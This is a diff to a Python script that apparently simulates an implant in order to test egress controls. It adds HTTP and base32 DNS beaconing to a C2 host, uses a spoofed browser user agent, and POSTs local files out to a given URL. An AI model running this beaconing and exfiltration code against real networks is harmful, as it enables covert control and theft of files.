@@ -14,6 +14,7 @@ import os
 import socket
 import sys
 import time
+import urllib.error
 import urllib.request
 
 IMPLANT_ID = socket.gethostname()
@@ -28,20 +29,36 @@ def resident():
         time.sleep(30)
 
 
+USER_AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"
+
+
+def fetch(request):
+    """Send a request; exit 3 when the proxy (not the C2) answered with an error, so it counts as blocked."""
+    try:
+        with urllib.request.urlopen(request, timeout=10) as response:
+            response.read()
+    except urllib.error.HTTPError as exc:
+        if exc.headers.get("X-Squid-Error"):
+            sys.exit(f"blocked by the proxy: {exc.code} {exc.headers.get('X-Squid-Error')}")
+        # Any other answer came from the C2 itself: the message got through.
+    except (urllib.error.URLError, OSError) as exc:
+        sys.exit(f"no connection: {exc}")
+
+
 def beacon_http(url):
     """One check-in: GET the C2 URL through the proxy from the environment."""
-    request = urllib.request.Request(f"{url}?id={IMPLANT_ID}", headers={"User-Agent": "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"})
-    with urllib.request.urlopen(request, timeout=5) as response:
-        response.read()
+    fetch(urllib.request.Request(f"{url}?id={IMPLANT_ID}", headers={"User-Agent": USER_AGENT}))
 
 
-def beacon_dns(domain):
+def beacon_dns(domain, expected):
     """One check-in: resolve a name under the C2 domain through the organisation's resolver."""
     label = base64.b32encode(f"{IMPLANT_ID}:{int(time.time())}".encode()).decode().rstrip("=").lower()
     try:
-        socket.gethostbyname(f"{label}.{domain}")
-    except socket.gaierror:
-        pass  # the answer does not matter: the query is the message
+        answer = socket.gethostbyname(f"{label}.{domain}")
+    except OSError as exc:
+        sys.exit(f"no answer for {domain}: {exc}")
+    if expected and answer != expected:
+        sys.exit(f"{domain} answered {answer}, not the C2")
 
 
 def exfil_http(url, paths):
@@ -49,10 +66,9 @@ def exfil_http(url, paths):
     for path in paths:
         with open(path, "rb") as fh:
             data = fh.read()
-        request = urllib.request.Request(f"{url}?id={IMPLANT_ID}&name={os.path.basename(path)}", data=data,
-                                         method="POST", headers={"Content-Type": "application/octet-stream"})
-        with urllib.request.urlopen(request, timeout=10) as response:
-            response.read()
+        fetch(urllib.request.Request(f"{url}?id={IMPLANT_ID}&name={os.path.basename(path)}", data=data,
+                                     method="POST", headers={"Content-Type": "application/octet-stream",
+                                                             "User-Agent": USER_AGENT}))
 
 
 if __name__ == "__main__":
@@ -62,7 +78,7 @@ if __name__ == "__main__":
     elif command == "beacon-http":
         beacon_http(args[0])
     elif command == "beacon-dns":
-        beacon_dns(args[0])
+        beacon_dns(args[0], args[1] if len(args) > 1 else "")
     elif command == "exfil-http":
         exfil_http(args[0], args[1:])
     else:
